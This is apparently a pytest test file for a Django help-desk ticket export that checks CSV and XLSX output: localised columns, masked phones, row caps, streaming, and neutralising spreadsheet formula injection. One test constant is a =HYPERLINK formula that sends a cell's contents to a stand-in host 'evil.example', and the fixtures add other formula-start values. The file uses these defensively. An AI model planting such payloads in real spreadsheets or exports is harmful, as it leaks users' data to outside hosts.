"""Ticket exports a person can read, that no spreadsheet evaluates, capped in
size and streamed in chunks."""

import csv
import io
import shutil
import subprocess
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

URL = "/tickets/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.getvalue())).active


@pytest.mark.django_db
def test_csv_has_titles_codes_local_minutes_and_college_names(client, make_ticket, desk, college_a):
    make_ticket(
        text="鸿蒙手机装不了企业微信",
        college=college_a,
        category="harmonyos",
        route="escalate",
        created_at=datetime(2026, 11, 20, 23, 30, 15, 123456, tzinfo=ZoneInfo("Asia/Shanghai")),
    )
    client.force_login(desk)
    header, row = csv_rows(client.get(URL, {"status": "", "export": "csv"}))
    cell = dict(zip(header, row, strict=True))
    assert cell["创建时间"] == "2026-11-20 23:30"
    assert cell["分类代码"] == "harmonyos" and cell["问题分类"] not in ("", "harmonyos")
    assert cell["处理方式代码"] == "escalate" and cell["处理方式"] == "升级至信息中心"
    assert cell["学院"] == college_a.name

    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    english = csv_rows(client.get(URL, {"status": "", "export": "csv"}))
    cell = dict(zip(english[0], english[1], strict=True))
    assert cell["College"] == college_a.name_en


@pytest.mark.django_db
def test_xlsx_has_column_widths_and_a_frozen_bold_header(client, make_ticket, desk):
    make_ticket()
    client.force_login(desk)
    sheet = xlsx_sheet(client.get(URL, {"status": "", "export": "xlsx"}))
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b
    assert sheet.column_dimensions["N"].width >= 40  # the candidate's words
    assert sheet["B2"].value.count(":") == 1 and len(sheet["B2"].value) == 16


@pytest.mark.django_db
def test_formulas_in_candidate_text_stay_text(client, make_ticket, desk):
    make_ticket(text=HOSTILE, candidate_name="+86电话")
    client.force_login(desk)
    header, row = csv_rows(client.get(URL, {"status": "", "export": "csv"}))
    cell = dict(zip(header, row, strict=True))
    assert cell["考生原话"] == "'" + HOSTILE and cell["考生姓名"] == "'+86电话"
    sheet = xlsx_sheet(client.get(URL, {"status": "", "export": "xlsx"}))
    texts = [c for c in sheet[2] if c.value in (HOSTILE, "+86电话")]
    assert len(texts) == 2 and all(c.data_type == "s" for c in texts)


@pytest.mark.django_db
def test_an_export_beyond_the_cap_asks_for_a_narrower_filter(client, make_ticket, desk, settings):
    settings.EXPORT_MAX_ROWS = 2
    for i in range(3):
        make_ticket(candidate_number=f"10614600000010{i}")
    client.force_login(desk)
    response = client.get(URL, {"status": "", "export": "xlsx"}, follow=True)
    page = response.content.decode()
    assert response.redirect_chain and "最多导出 2 行" in page
    assert response["Content-Type"].startswith("text/html")
    settings.EXPORT_MAX_ROWS = 3
    assert len(csv_rows(client.get(URL, {"status": "", "export": "csv"}))) == 4


@pytest.mark.django_db
def test_csv_is_streamed_in_chunks_of_many_rows(client, make_ticket, desk):
    for i in range(30):
        make_ticket(candidate_number=f"1061460000001{i:02d}")
    client.force_login(desk)
    response = client.get(URL, {"status": "", "export": "csv"})
    assert response.streaming
    chunks = list(response.streaming_content)
    assert len(chunks) <= 2 and b"".join(chunks).count(b"\n") == 31


def xlsx_as_csv_cells(sheet):
    """The sheet's rows as the CSV writes them: "" for no cell, numbers in
    decimal, a quote-prefixed text with its apostrophe."""
    rows = []
    for row in sheet.iter_rows():
        cells = []
        for cell in row:
            value = cell.value
            if value is None:
                cells.append("")
            elif cell.data_type == "n":
                cells.append(str(value))
            else:
                assert cell.data_type == "s", (cell.coordinate, value)
                cells.append("'" + value if cell.quotePrefix else value)
        rows.append(cells)
    return rows


@pytest.fixture
def tricky_tickets(make_ticket, desk, college_a, new_category):
    """Tickets whose every text column holds something hard to carry: Chinese,
    XML's own characters, line breaks, spaces at the ends, empty values,
    formula starts in each column that can hold outside text, a local date
    that is not the UTC date."""
    from django.contrib.auth import get_user_model

    from guide.models import FaqCategory
    from tickets.models import College

    College.objects.filter(pk=college_a.pk).update(name="=学院名", name_en="=College")
    FaqCategory.objects.filter(pk=new_category.pk).update(title="-考试VPN")
    lead = get_user_model().objects.create_user("@lead")
    made = [
        make_ticket(
            text='鸿蒙手机装不了企业微信 & <企业号> "引号"\n第二行\r\n第三行',
            college=college_a,
            category="harmonyos",
            route="escalate",
            contact_phone="13812345678",
            created_at=datetime(2026, 11, 20, 17, 30, tzinfo=ZoneInfo("UTC")),
        ),
        make_ticket(text=HOSTILE, candidate_name="-张三", category="exam_vpn"),
        make_ticket(text="@所有人 求助", candidate_name="+86电话"),
        make_ticket(text="前后有空格的原话", candidate_name="\t制表符"),
    ]
    Ticket = made[0].__class__
    Ticket.objects.filter(pk=made[2].pk).update(assignee=lead, contact_phone="+86 138-1234-5678")
    # As an import may have stored them (the forms would clean these up).
    Ticket.objects.filter(pk=made[3].pk).update(contact_phone="8612", text="  前后有空格的原话  ")
    return made


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_xlsx_holds_the_cells_of_the_csv(client, desk, tricky_tickets, language):
    client.force_login(desk)
    if language == "en":
        client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    table = csv_rows(client.get(URL, {"status": "", "export": "csv"}))
    sheet = xlsx_sheet(client.get(URL, {"status": "", "export": "xlsx"}))
    assert xlsx_as_csv_cells(sheet) == table
    assert len(table) == 1 + len(tricky_tickets)
    # Every cell that starts like a formula is text, in both files.
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t":
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    newest_first = {row[0]: row for row in table[1:]}
    first = newest_first[str(tricky_tickets[0].pk)]
    assert first[1] == "2026-11-21 01:30"  # the desk's local day, not UTC's
    assert first[5] == "138****5678"
    assert first[4] == ("'=College" if language == "en" else "'=学院名")
    assert first[13] == '鸿蒙手机装不了企业微信 & <企业号> "引号"\n第二行\r\n第三行'
    assert newest_first[str(tricky_tickets[1].pk)][7] == "'-考试VPN"
    assert newest_first[str(tricky_tickets[2].pk)][12] == "'@lead"
    assert newest_first[str(tricky_tickets[3].pk)][13] == "  前后有空格的原话  "
    assert newest_first[str(tricky_tickets[2].pk)][5] == "138****5678"
    assert newest_first[str(tricky_tickets[3].pk)][5] == "****"
    assert [row[0] for row in table[1:]] == [str(t.pk) for t in reversed(tricky_tickets)]


@pytest.mark.django_db
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_reads_the_xlsx_as_the_csv(client, desk, tricky_tickets, tmp_path):
    client.force_login(desk)
    table = csv_rows(client.get(URL, {"status": "", "export": "csv"}))
    xlsx = client.get(URL, {"status": "", "export": "xlsx"}).getvalue()
    (tmp_path / "export.xlsx").write_bytes(xlsx)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "export.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = (tmp_path / "export.csv").read_text(encoding="utf-8")
    office = list(csv.reader(io.StringIO(text)))

    # LibreOffice writes a quote-prefixed text without its apostrophe, and a
    # line break inside a cell as LF.
    def office_cell(cell):
        if cell[:1] == "'" and cell[1:2] and cell[1:2] in "=+-@\t":
            cell = cell[1:]
        return cell.replace("\r\n", "\n")

    expected = [[office_cell(cell) for cell in row] for row in table]
    assert office == expected
